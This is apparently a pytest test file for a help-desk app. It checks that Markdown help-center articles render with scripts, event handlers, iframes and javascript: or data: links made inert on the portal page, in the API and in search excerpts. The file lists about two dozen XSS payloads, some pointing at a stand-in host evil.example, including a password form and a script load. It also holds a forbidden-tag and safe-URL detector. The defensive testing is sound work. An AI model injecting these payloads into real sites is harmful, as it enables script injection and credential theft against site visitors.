"""Help-center articles are written in Markdown by agents and shown to everyone: whatever an article holds
(scripts, iframes, event handlers, `javascript:` and `data:` links, raw HTML, HTML smuggled through
Markdown's own syntax) is rendered inert, on the portal page, in the API and in search excerpts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tickets import knowledge
from tickets.models import Article

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="https://evil.example"></iframe>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
    "<svg onload=alert(1)>",
    "<object data=evil.swf></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<!-- <script>alert(1)</script> -->",
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '[a](https://example.com "title" onmouseover=alert(1))',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]

#: Elements that may never come out of the renderer: they run code, load a page or take input.
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "svg",
    "form",
    "input",
    "meta",
    "link",
    "base",
}
_SAFE_URL = re.compile(r"^(https?:|mailto:|/|#|[^:]*$)", re.IGNORECASE)


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}")
            if name in ("href", "src") and not _SAFE_URL.match((value or "").strip()):
                self.problems.append(f"{tag} {name}={value}")


def dangerous(html: str) -> list[str]:
    """The elements and attributes of `html` that could run code or load another page."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_renderer_makes_each_attack_inert(attack):
    html = knowledge.render_markdown(f"Before\n\n{attack}\n\nAfter").html
    assert dangerous(html) == [], html
    assert "Before" in html and "After" in html  # the rest of the article survives


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("<>\"'=/:;&#[]()!`* \n\tjavascriptonerrorhrefsrcdata")), max_size=200
    )
)
def test_no_text_renders_to_anything_dangerous(text):
    assert dangerous(knowledge.render_markdown(text).html) == []


def test_safe_markdown_keeps_its_meaning():
    html = knowledge.render_markdown(
        "# Title\n\n**bold** *it* `code`\n\n- a\n- b\n\n| h |\n|---|\n| c |\n\n"
        "[site](https://example.com) [mail](mailto:support@example.com) [rel](/support/articles/x/)"
    ).html
    for piece in (
        "<h2>Title</h2>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>a</li>",
        "<td>c</td>",
        'href="https://example.com"',
        'href="mailto:support@example.com"',
        'href="/support/articles/x/"',
        'rel="noopener noreferrer nofollow"',
    ):
        assert piece in html, piece


@pytest.fixture
def hostile(agent):
    article = Article(
        title="Hostile <script>alert('t')</script>",
        body="\n\n".join(ATTACKS) + "\n\nzebra marker",
        visibility="public",
        status="published",
    )
    return knowledge.article_save(article=article, actor=agent)


def test_the_portal_page_shows_a_hostile_article_inert(client, hostile):
    response = client.get(f"/support/articles/{hostile.slug}/")
    assert response.status_code == 200
    page = response.content.decode()
    body = page.split('<div class="article-body">', 1)[1].split("</div>", 1)[0]
    assert dangerous(body) == [], body
    assert "<script>alert('t')</script>" not in page  # the title is escaped
    # The page's policy forbids inline scripts besides.
    assert "script-src 'self'" in response["Content-Security-Policy"]


def test_the_api_and_search_excerpts_carry_it_inert(client, hostile):
    body = client.get(f"/api/v1/articles/{hostile.pk}/").json()
    assert dangerous(body["body_html"]) == []
    excerpt = client.get("/api/v1/articles/suggest/", {"q": "zebra marker script"}).json()[0]["excerpt"]
    assert "<script" not in excerpt and dangerous(excerpt) == []
    page = client.get("/support/articles/", {"q": "zebra marker"}).content.decode()
    results = page.split('class="list-unstyled help-results"', 1)[1].split("</ol>", 1)[0]
    assert "<script" not in results and dangerous(results) == []


def test_the_checker_itself_catches_what_it_should():
    assert dangerous('<a href="javascript:alert(1)">x</a>') and dangerous("<script></script>")
    assert dangerous('<img src="data:image/png;base64,AA" onerror="x">') and dangerous("<iframe></iframe>")
    assert dangerous('<p>&lt;script&gt; onerror="x"</p>') == []  # text is text
